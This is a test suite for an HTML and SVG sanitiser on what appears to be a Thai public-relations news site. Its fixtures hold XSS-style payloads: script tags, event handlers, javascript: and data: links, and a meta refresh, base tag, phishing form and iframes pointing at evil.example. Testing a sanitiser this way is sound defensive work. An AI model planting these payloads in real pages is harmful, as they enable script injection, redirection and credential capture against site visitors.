"""Raw HTML in bodies and summaries: only the allow-list of plugins/content_model/sanitise.py is
published, on the page and in the feeds; each thing removed is one warning with its file and line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from conftest import REPO, SAMPLE_NOW, news_pages, problem_lines
from plugins.content_model import sanitise

NEWS = "content/news/2569/raw.md"
META = ("Title: ข่าวมี HTML\nDate: 2026-11-18 09:30\nCategory: ข่าวประชาสัมพันธ์\n"
        "Summary: สรุป <img src=x onerror=alert(1)> ข่าว\n")
HOSTILE_BODY = """\
ย่อหน้าแรก

<script>alert(1)</script>

<p onclick="steal()">คลิก</p>

[ลิงก์](javascript:alert(2))

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<iframe src="https://evil.example/x" title="x"></iframe>

<form action="https://evil.example/"><input name="pw"></form>

<object data="x.swf"></object>

<a href="data:text/html,&lt;script&gt;">ข้อมูล</a>

<style>body { display: none }</style>

<base href="https://evil.example/">

<script>alert(3)</script>
"""
KEPT_BODY = """\
## หัวข้อย่อย

| ชั้น | จำนวน |
|:-----|------:|
| ป.1  | 20    |

ข้อความ[^1] และ <abbr title="สำนักงานเขตพื้นที่การศึกษาประถมศึกษา">สพป.</abbr> H<sub>2</sub>O

> คำกล่าว

<figure><img src="{static}/images/logo.png" alt="ตรา" width="120" height="120"><figcaption>ตราสำนักงาน</figcaption></figure>

[ดาวน์โหลด]({static}/images/logo.png) และ [หน้าอื่น](../other/) และ [อีเมล](mailto:pr@example.go.th)

<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc123" title="วิดีโอกิจกรรม" allow="encrypted-media" allowfullscreen></iframe>

[^1]: เชิงอรรถ
"""


def warnings_of(result) -> list[str]:
    return [line for line in problem_lines(result) if line.startswith("warning: ")]


def test_each_removed_thing_is_one_warning_with_its_line(site):
    site.news("raw", META, HOSTILE_BODY)
    result = site.run("check")
    code = "raw HTML that could run code is not published; delete it from the file"
    assert warnings_of(result) == [
        f"warning: {NEWS}:8: body: removed <script> ({code})",
        f"warning: {NEWS}:10: body: removed onclick= from <p> ({code})",
        f'warning: {NEWS}:12: body: removed href="javascript:alert(2)" from <a> (only http, https, mailto and tel '
        "links and addresses in the site are published; fix the link)",
        f"warning: {NEWS}:14: body: removed <meta> (page settings are the theme's; delete it from the file)",
        f"warning: {NEWS}:16: body: removed <iframe> of evil.example (only YouTube and Facebook videos are "
        "embedded, as an https <iframe> from youtube.com, youtube-nocookie.com or facebook.com; link to it instead)",
        f"warning: {NEWS}:18: body: removed <form> (forms are not published; link to the form's address instead)",
        f"warning: {NEWS}:18: body: removed <input> (forms are not published; link to the form's address instead)",
        f"warning: {NEWS}:20: body: removed <object> ({code})",
        f'warning: {NEWS}:22: body: removed href="data:text/html,<script>" from <a> (only http, https, mailto '
        "and tel links and addresses in the site are published; fix the link)",
        f"warning: {NEWS}:24: body: removed <style> (the theme sets the look; delete it from the file)",
        f"warning: {NEWS}:26: body: removed <base> (page settings are the theme's; delete it from the file)",
        f"warning: {NEWS}:28: body: removed <script> ({code})",
        f"warning: {NEWS}:4: Summary: removed onerror= from <img> ({code})",
    ]
    assert result.exit_code == 0
    assert site.run("check", "--strict").exit_code == 1  # before going live, the officer must clean the file


def test_the_page_and_the_feeds_carry_only_sanitised_html(site):
    site.news("raw", META, HOSTILE_BODY)
    site.write("pelicanconf.py", site.read("pelicanconf.py") + f"\nCONTENT_MODEL_NOW = {SAMPLE_NOW!r}\n")
    assert site.run("build").exit_code == 0
    pages = news_pages(site.root / "output")
    feeds = [site.root / "output/feeds/all.atom.xml", site.root / "output/feeds/all.rss.xml"]
    assert pages and all(feed.is_file() for feed in feeds)
    for path in [*pages, *feeds]:
        text = path.read_text(encoding="utf-8")
        assert "ย่อหน้าแรก" in text or path.name.endswith(".rss.xml"), path  # RSS carries the summary only
        for hostile in ("alert(", "steal()", "onclick", "onerror", "evil.example", "http-equiv=&quot;refresh",
                        "javascript:", "data:text/html", "name=\"pw\"", "x.swf", "display: none"):
            assert hostile not in text, (path, hostile)
    assert 'http-equiv="refresh"' not in pages[0].read_text(encoding="utf-8")


def test_what_prsite_writes_and_officers_paste_is_kept(site):
    site.news("kept", META.replace("Summary: สรุป <img src=x onerror=alert(1)> ข่าว\n", ""), KEPT_BODY)
    site.write("content/pages/other.md", "Title: อื่น\nSlug: other\n\nหน้าอื่น\n")
    result = site.run("build")
    assert result.exit_code == 0 and warnings_of(result) == [], result.stderr
    page = news_pages(site.root / "output")[0].read_text(encoding="utf-8")
    for kept in ('<h2 id="', "<table>", '<th style="text-align:left">', '<sup id="fnref:1">',
                 '<a class="footnote-ref" href="#fn:1">', '<div class="footnote">',
                 '<abbr title="สำนักงานเขตพื้นที่การศึกษาประถมศึกษา">สพป.</abbr>', "<sub>2</sub>",
                 "<blockquote>", "<figure>", "<figcaption>ตราสำนักงาน</figcaption>",
                 'href="../../../images/logo.png"',  # {static} was resolved by Pelican after sanitising
                 'href="../other/"', 'href="mailto:pr@example.go.th"',
                 '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc123" '
                 'title="วิดีโอกิจกรรม" allow="encrypted-media" allowfullscreen=""></iframe>'):
        assert kept in page, kept
    assert "{static}" not in page


@pytest.mark.parametrize("src, title, kept", [
    ("https://www.youtube.com/embed/abc", "วิดีโอ", True),
    ("https://www.youtube-nocookie.com/embed/abc", "วิดีโอ", True),
    ("https://www.facebook.com/plugins/video.php?href=x", "วิดีโอ", True),
    ("http://www.youtube.com/embed/abc", "วิดีโอ", False),  # https only
    ("https://www.youtube.com.evil.example/embed/abc", "วิดีโอ", False),
    ("https://evil.example/?u=https://www.youtube.com/", "วิดีโอ", False),
    ("javascript:alert(1)", "วิดีโอ", False),
    ("//www.youtube.com/embed/abc", "วิดีโอ", False),
    ("https://www.youtube.com/embed/abc", "", False),  # a video needs a title
])
def test_embeds_only_from_allowed_hosts_with_a_title(src, title, kept):
    markup = f'<iframe src="{src}" title="{title}" onload="x()"></iframe>'
    cleaned = sanitise.clean(markup)
    assert ("<iframe" in cleaned) is kept
    assert "onload" not in cleaned
    assert bool([r for r in sanitise.removals(markup) if r.what.startswith("<iframe")]) is not kept


def test_the_csp_lets_exactly_the_allowed_video_hosts_be_framed():
    conf = (REPO / "publish/deploy/nginx/prsite.conf").read_text(encoding="utf-8")
    frame_src = re.search(r"frame-src ([^;\"]+)", conf)
    assert frame_src, "prsite.conf's Content-Security-Policy has no frame-src"
    assert set(frame_src[1].split()) == {"'self'", *(f"https://{host}" for host in sanitise.EMBED_HOSTS)}


# --- SVG files under content/ (plugins/media/svg.py) ---------------------------------------------

HOSTILE_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">
  <script>alert(2)</script>
  <rect width="10" height="10" fill="#0b4f8a"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
</svg>
"""


def test_svgs_are_published_sanitised_or_not_at_all(site):
    site.write("content/images/diagram.svg", HOSTILE_SVG)
    site.write("content/images/broken.svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect")
    result = site.run("build")
    assert result.exit_code == 0, result.stderr
    assert warnings_of(result) == [
        "warning: content/images/broken.svg: file: not published: is not a readable SVG "
        "(Couldn't find end of Start Tag rect line 1, line 1, column 46; save it again as Plain SVG)",
        "warning: content/images/diagram.svg: file: published without onload=, <script>, <foreignObject> "
        "(an SVG may not run code, embed HTML or load other files; save it again as Plain SVG without them)",
    ]
    published = site.read("output/images/diagram.svg")
    assert '<rect width="10" height="10" fill="#0b4f8a"/>' in published
    for hostile in ("alert", "onload", "script", "evil.example", "foreignObject"):
        assert hostile not in published
    assert not (site.root / "output/images/broken.svg").exists()
    assert site.read("output/images/logo.svg") == site.read("content/images/logo.svg")  # a clean drawing is unchanged


def test_the_sample_logo_is_published_and_used(sample_site):
    logo = sample_site / "images/logo.svg"
    assert logo.read_text(encoding="utf-8") == (REPO / "content/images/logo.svg").read_text(encoding="utf-8")
    assert 'images/logo.svg"' in (sample_site / "index.html").read_text(encoding="utf-8")
